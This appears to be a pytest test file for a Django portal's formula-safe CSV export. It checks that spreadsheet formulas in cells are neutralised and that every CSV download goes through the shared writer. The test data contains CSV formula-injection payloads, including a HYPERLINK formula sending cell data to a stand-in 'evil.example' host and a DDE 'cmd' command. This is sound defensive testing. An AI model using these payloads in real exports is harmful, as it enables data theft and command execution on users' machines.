"""The one formula-safe CSV writer (issue 17 finding 5)."""

import ast
import csv
import datetime
import io
from pathlib import Path

import pytest
from django.urls import reverse

from portal.csv_export import SafeCsvWriter, safe_cell
from tests.factories import KeyContactFactory, PractitionerFactory, ServiceFactory

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Jane Onc", "020 8909 5600", "a=b", "", 42, -5, 2.5, None, datetime.date(2026, 11, 2)]
)
def test_ordinary_values_and_numbers_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_defuses_every_cell_of_every_row():
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["name", "phone"])
    writer.writerows([["=cmd|' /C calc'!A0", "-1"], ["Ann", -1]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "phone"],
        ["'=cmd|' /C calc'!A0", "'-1"],
        ["Ann", "-1"],
    ]


@pytest.mark.django_db
def test_public_practitioner_download_carries_no_formula(client):
    """Guards issue 17 finding 5: /directory/practitioners.csv carried =HYPERLINK(...) as it was."""
    PractitionerFactory(name='=HYPERLINK("https://evil.example","Jane")', phone="+44 20 7352 8171")
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("directory:export_practitioners")).content.decode()))
    )
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("https://evil.example","Jane")' in cells
    assert "'+44 20 7352 8171" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.django_db
def test_public_key_contact_download_carries_no_formula(client):
    KeyContactFactory(label="@SUM(1+1)*cmd|' /C calc'!A0", notes="-2+3", service=ServiceFactory(code="RNOH"))
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("directory:export_key_contacts")).content.decode()))
    )
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'-2+3" in cells


# Modules that still write CSV themselves, each waiting for a change someone has agreed to make.
# referrals/diagnostic_views.py (the evaluation CSV) moves to the diagnostics app, where it calls
# portal.csv_export.csv_response; remove the entry then. Nothing else may be added here.
NOT_YET_ON_THE_SHARED_WRITER: set[str] = set()


def _writes_csv_itself(path: Path) -> bool:
    writers = {"writer", "DictWriter"}
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        attribute = isinstance(node, ast.Attribute) and node.attr in writers
        if attribute and isinstance(node.value, ast.Name) and node.value.id == "csv":
            return True
        imported = isinstance(node, ast.ImportFrom) and node.module == "csv"
        if imported and any(alias.name in writers for alias in node.names):
            return True
    return False


def test_every_csv_download_goes_through_the_one_writer():
    """A module that calls csv.writer or csv.DictWriter itself bypasses the formula defusing."""
    own_code = [
        path
        for path in ROOT.glob("*/**/*.py")
        if path.parts[len(ROOT.parts)] not in {".venv", "node_modules", "tests", "bin"}
        and "migrations" not in path.parts
    ]
    writers = {str(path.relative_to(ROOT)) for path in own_code if _writes_csv_itself(path)} - {
        "portal/csv_export.py"
    }
    assert writers <= NOT_YET_ON_THE_SHARED_WRITER, (
        f"{sorted(writers - NOT_YET_ON_THE_SHARED_WRITER)} write CSV themselves: "
        "use portal.csv_export.csv_response (or SafeCsvWriter) instead"
    )
